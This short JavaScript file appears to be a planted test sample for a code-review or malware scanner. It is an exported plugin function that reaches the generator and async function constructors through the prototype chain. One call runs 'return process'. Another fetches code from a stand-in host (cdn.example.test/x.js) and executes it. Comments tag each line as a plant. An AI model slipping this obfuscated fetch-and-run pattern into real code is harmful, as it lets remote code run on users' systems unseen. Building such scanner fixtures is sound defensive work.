// @desc: The AsyncFunction and GeneratorFunction constructors reached through Object.getPrototypeOf, with a constant source and with code fetched from the network (SLO-02 review route 13).
// @obfuscation: prototype chain, constructor
const src = 'return process';
const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor; // PLANT: function-constructor

module.exports = function (pi) {
  Reflect.getPrototypeOf(function* () {}).constructor(src)().next(); // PLANT: function-constructor
  fetch('https://cdn.example.test/x.js')
    .then((r) => r.text())
    .then((c) => AsyncFunction(c)()); // PLANT: fetch-and-run
  pi.log('done');
};
